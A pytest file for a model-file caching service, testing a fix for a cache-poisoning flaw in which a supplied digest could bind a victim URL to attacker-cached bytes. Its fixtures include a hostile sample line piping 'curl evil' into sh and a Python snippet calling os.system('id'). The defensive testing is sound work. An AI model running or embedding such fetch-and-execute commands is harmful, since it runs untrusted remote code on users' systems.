"""A caller's digest selects and checks content; it never binds a URL to cached bytes.

Security review, finding 1 (issue 9): ``POST {"url": VICTIM, "digest": D}`` with D the digest of
bytes already cached used to create VICTIM -> those bytes without a single request to VICTIM's
server, for http URLs and for the Hub's git (non-LFS) files.  Every test here would pass that
attack; each checks that VICTIM's server is asked and that the cache never holds VICTIM -> D.
"""

from __future__ import annotations

import hashlib
import os
import threading

import pytest
from peers.fakehub import start_fakehub

from nekko_sm.errors import Conflict, EntryNotFound, IntegrityError, UpstreamNotFound


def sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


TRANSFER = {"read_timeout": 5.0, "backoff": 0.01}


@pytest.fixture
def svc(new_service):
    return new_service(transfer=TRANSFER)


def test_http_digest_of_cached_bytes_does_not_create_victim_entry(svc, nginx):
    evil = b"import os; os.system('curl evil | sh')\n" + os.urandom(64)
    real = b'{"model_type": "llama"}' + os.urandom(64)
    evil_url = nginx.put("poison/evil.json", evil)
    victim_url = nginx.put("poison/config.json", real)
    svc.pull(evil_url)  # the attacker's bytes are now in the cache

    nginx.clear_log()
    with pytest.raises(IntegrityError):
        svc.pull(victim_url, digest=sha(evil))
    assert nginx.requests_for("poison/config.json"), "the victim URL was never fetched"
    assert svc.store.get_entry(svc.canonical(victim_url)) is None
    with pytest.raises(EntryNotFound):
        svc.status(victim_url)

    # A later caller pinning the true digest gets the true bytes.
    entry, created = svc.pull(victim_url, digest=sha(real))
    assert created and entry["digest"] == sha(real)
    with open(entry["path"], "rb") as f:
        assert f.read() == real
    assert svc.store.verify() == []


def test_http_digest_for_a_missing_url_is_not_found(svc, nginx):
    cached = os.urandom(1000)
    svc.pull(nginx.put("poison/present.bin", cached))
    missing = nginx.url + "/poison/not-there.bin"
    with pytest.raises(UpstreamNotFound):
        svc.pull(missing, digest=sha(cached))
    assert svc.store.get_entry(svc.canonical(missing)) is None


def test_cached_entry_with_other_digest_is_a_conflict(svc, nginx):
    real = os.urandom(2000)
    url = nginx.put("poison/model.bin", real)
    svc.pull(url)
    with pytest.raises(Conflict) as e:
        svc.pull(url, digest=sha(b"something else"))
    assert e.value.status == 409
    assert "path" not in e.value.to_json()["error"]
    entry, created = svc.pull(url, digest=sha(real))  # the right digest is a cache hit
    assert not created and entry["digest"] == sha(real)


def test_joining_a_pull_with_another_digest_is_checked(svc, faulty):
    data = os.urandom(256 << 10)
    url = faulty.add("poison/slow.bin", data, stall_after=1024, stall_seconds=1.0)
    first, entry = svc.start(url)
    assert entry is None and first is not None
    joined, entry = svc.start(url, digest=sha(b"not these bytes"))
    assert entry is None and joined is not None
    right, entry = svc.start(url, digest=sha(data))
    assert entry is None and right is not None
    assert first.future.result(timeout=30)[0]["digest"] == sha(data)
    with pytest.raises(Conflict):
        joined.future.result(timeout=30)
    assert right.future.result(timeout=30)[0]["digest"] == sha(data)
    assert len([r for r in faulty.requests_for("poison/slow.bin") if r.method == "GET"]) == 1


EVIL_PY = b"import os\nos.system('id')\n"
MODELING_PY = b"class Model: pass\n".ljust(len(EVIL_PY), b"#")  # same size: only bytes differ


@pytest.fixture(scope="module")
def hub():
    h = start_fakehub()
    h.add_repo("acme/attacker", files={"evil.py": EVIL_PY})
    h.add_repo("acme/victim", files={"modeling.py": MODELING_PY, "config.json": b'{"a": 1}\n'})
    yield h
    h.close()


def test_hub_git_file_digest_of_cached_bytes_is_fetched_and_refused(new_service, hub):
    svc = new_service(env={"HF_ENDPOINT": hub.endpoint}, transfer=TRANSFER)
    evil = EVIL_PY
    svc.pull("hf:///acme/attacker/evil.py")
    hub.clear_log()
    with pytest.raises(IntegrityError):
        svc.pull("hf:///acme/victim/modeling.py", digest=sha(evil))
    asked = [r for r in hub.log() if "modeling.py" in r.path]
    assert asked, "the Hub was never asked for the victim's file"
    assert svc.store.get_entry(svc.canonical("hf:///acme/victim/modeling.py")) is None
    entry, created = svc.pull("hf:///acme/victim/modeling.py")
    assert created
    with open(entry["path"], "rb") as f:
        assert f.read() == MODELING_PY


def test_concurrent_poisoning_attempts_leave_no_binding(svc, nginx):
    """Many attackers at once, each naming the cached digest: none creates the entry."""
    evil = os.urandom(4096)
    svc.pull(nginx.put("poison/many-evil.bin", evil))
    victims = [nginx.put(f"poison/victim-{i}.bin", os.urandom(4096)) for i in range(8)]
    errors: list = []

    def attack(url: str) -> None:
        try:
            svc.pull(url, digest=sha(evil))
        except IntegrityError as e:
            errors.append(e)

    threads = [threading.Thread(target=attack, args=(u,)) for u in victims]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert len(errors) == len(victims)
    for u in victims:
        assert svc.store.get_entry(svc.canonical(u)) is None
